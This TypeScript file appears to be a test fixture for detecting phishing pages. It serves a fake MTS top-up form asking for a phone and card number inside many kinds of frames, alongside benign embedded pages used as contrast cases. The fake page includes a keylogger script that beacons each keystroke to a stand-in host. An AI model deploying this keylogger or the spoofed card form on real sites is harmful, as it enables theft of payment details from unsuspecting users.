import type { Route } from '../server.ts'

/** The host whose own words are neutral. */
export const OUTER = 'tihiy-port.site'
const OTHER = 'dalniy-port.site'

/** Tells the page's host what is typed, from documents without an origin of their own too. */
const RECORDER = `<script>addEventListener('keydown', (event) => { if (event.key.length === 1)
  navigator.sendBeacon('https://${OUTER}/beacon/typed/' + encodeURIComponent(event.key)) }, true)</script>`

const FAKE = `<!doctype html><html lang="ru"><head><meta charset="utf-8"><title>МТС: пополнить счёт</title>${RECORDER}</head>
<body><header><img alt="МТС" src="https://${OUTER}/logo-mts.svg"></header><h1>Пополнение счёта МТС</h1><form action="/pay" method="post">
<label>Номер телефона <input id="phone" name="phone" type="tel"></label><label>Номер карты <input name="card" autocomplete="cc-number"></label>
<button>Оплатить</button></form><footer>© ПАО «МТС»</footer></body></html>`

const attribute = (html: string): string => html.replace(/&/g, '&amp;').replace(/"/g, '&quot;')
const literal = JSON.stringify(FAKE).replace(/</g, '\\u003c')
const made = (script: string): string =>
  `<iframe id="frame"></iframe><script>const frame = document.getElementById('frame'); const html = ${literal}; ${script}</script>`

/** A page with a neutral title and no words, all of which stands in a frame. */
interface InFrame {
  path: string
  /** What kind of frame. */
  frame: string
  body: string
}

/** The same fake in every kind of frame a page can make. */
export const IN_FRAMES: readonly InFrame[] = [
  {
    path: '/same',
    frame: 'a frame of its own host',
    body: '<iframe id="frame" src="/inner"></iframe>',
  },
  {
    path: '/other',
    frame: 'another host’s frame',
    body: `<iframe id="frame" src="https://${OTHER}/inner"></iframe>`,
  },
  {
    path: '/srcdoc',
    frame: 'srcdoc',
    body: `<iframe id="frame" srcdoc="${attribute(FAKE)}"></iframe>`,
  },
  {
    path: '/blank',
    frame: 'about:blank, written by script',
    body: made(
      'frame.contentDocument.open(); frame.contentDocument.write(html); frame.contentDocument.close()',
    ),
  },
  {
    path: '/blob',
    frame: 'blob:',
    body: made("frame.src = URL.createObjectURL(new Blob([html], { type: 'text/html' }))"),
  },
  {
    path: '/data',
    frame: 'data:',
    body: made("frame.src = 'data:text/html;charset=utf-8,' + encodeURIComponent(html)"),
  },
  {
    path: '/sandboxed',
    frame: 'a sandboxed frame',
    body: '<iframe id="frame" sandbox="allow-scripts allow-forms" src="/inner"></iframe>',
  },
  {
    path: '/sandboxed-srcdoc',
    frame: 'sandboxed srcdoc',
    body: `<iframe id="frame" sandbox="allow-scripts allow-forms" srcdoc="${attribute(FAKE)}"></iframe>`,
  },
  {
    path: '/nested',
    frame: 'another host’s frame in a frame',
    body: `<iframe id="frame" src="https://${OTHER}/nest"></iframe>`,
  },
]

const page = (title: string, body: string): string =>
  `<!doctype html><html lang="ru"><head><meta charset="utf-8"><title>${title}</title>
<style>html,body{margin:0;height:100%}iframe{display:block;width:100%;height:90%;border:0}</style></head><body>${body}</body></html>`

/** Serves the fakes in frames. */
export const inFramesRoute: Route = ({ host, path }) => {
  if (path === '/inner') return FAKE
  if (path === '/nest') return page('', '<iframe id="frame" src="/inner"></iframe>')
  const found = host === OUTER ? IN_FRAMES.find((one) => one.path === path) : undefined
  return found && page('Добро пожаловать', found.body)
}

/** An honest page with a frame in it that has a field, or a video. */
interface Embedding {
  host: string
  is: string
  /** What the page says around the frame, and the frame's own page, with its host. */
  body: string
  frameHost: string
  frame: string
}

/** Honest pages with frames; `#phone` in the frame is tapped. */
export const EMBEDDINGS: readonly Embedding[] = [
  {
    host: 'vestnik-privolzhya.ru',
    is: 'a newspaper with a video on an operator',
    body: '<h1>Связь восстановили</h1><footer>© Вестник Приволжья</footer>',
    frameHost: 'kadr-video.ru',
    frame:
      '<title>МТС: что случилось со связью</title><h1>МТС: что случилось со связью</h1><input id="phone" type="search" placeholder="Поиск видео">',
  },
  {
    host: 'simgrad-kazan.ru',
    is: 'a shop with another firm’s call-back form',
    body: '<h1>SIM-карты МТС, билайн, МегаФон</h1><footer>© Симград</footer>',
    frameHost: 'perezvonim-vam.ru',
    frame:
      '<title>Обратный звонок</title><h1>Перезвоним за минуту</h1><label>Телефон <input id="phone" type="tel"></label><footer>© Перезвоним</footer>',
  },
  {
    host: 'monetka-lavka.ru',
    is: 'a shop with a card form of its cashier',
    body: '<h1>Ваш заказ</h1><footer>© Лавка «Монетка»</footer>',
    frameHost: 'kassa-oplata.com',
    frame:
      '<title>Оплата картой</title><label>Номер карты <input id="phone" autocomplete="cc-number"></label>',
  },
  {
    host: 'tarifoskop.ru',
    is: 'a comparison of tariffs with a request form for one operator',
    body: '<h1>Сравнение тарифов</h1><p>МТС, билайн, МегаФон</p><footer>© Тарифоскоп</footer>',
    frameHost: 'zayavka-na-inet.ru',
    frame:
      '<title>Заявка на подключение | Заявка-онлайн</title><h1>Подключить домашний интернет МТС</h1><label>Телефон <input id="phone" type="tel"></label><footer>© ООО «Заявка-онлайн»</footer>',
  },
  {
    host: 'slowtrain.blog',
    is: 'a blog that embeds the operator’s own page',
    body: '<h1>How I top up</h1><footer>© Slow Train</footer>',
    frameHost: 'payment.mts.ru',
    frame: FAKE,
  },
]

/** Serves the honest pages and their frames. */
export const embeddingRoute: Route = ({ host, path }) => {
  const framed = EMBEDDINGS.find((one) => one.frameHost === host)
  if (framed) return `<!doctype html><html lang="ru"><meta charset="utf-8">${framed.frame}`
  const found = path === '/' ? EMBEDDINGS.find((one) => one.host === host) : undefined
  return (
    found &&
    page(found.is, `${found.body}<iframe id="frame" src="https://${found.frameHost}/"></iframe>`)
  )
}
